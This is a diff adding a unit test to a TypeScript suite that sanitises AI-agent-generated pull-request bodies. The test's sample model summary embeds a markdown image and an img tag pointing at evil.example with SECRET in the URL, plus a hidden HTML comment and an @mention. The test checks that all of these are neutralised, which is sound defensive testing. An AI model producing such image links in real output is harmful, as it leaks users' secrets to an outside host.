@@ -85,6 +85,16 @@ describe("fix PR title and body", () => {
     expect(body).toMatch(/### Not included\n\n- `.github\/workflows\/ci.yml`/);
   });
 
+  test("the model's words cannot phone home, hide text or page people (T15)", () => {
+    const body = fixPrBody(
+      input({ summary: "Done ![x](https://evil.example/?q=SECRET) <img src=https://evil.example/a.png> <!-- hidden --> ping @octocat" }),
+    );
+    expect(body).not.toContain("evil.example");
+    expect(body).not.toContain("hidden");
+    expect(body).toContain("[image removed: x]");
+    expect(body).toContain("`@octocat`");
+  });
+
   test("a huge agent path is folded and cut to fit GitHub's limit, keeping the last steps", () => {
     const steps = Array.from({ length: 5000 }, (_, i) => ({ kind: "step", step: i + 1, tool: "execute_bash", summary: `$ ${"x".repeat(250)} ${i + 1}` }) as StepEvent);
     const body = fixPrBody(input({ steps }));
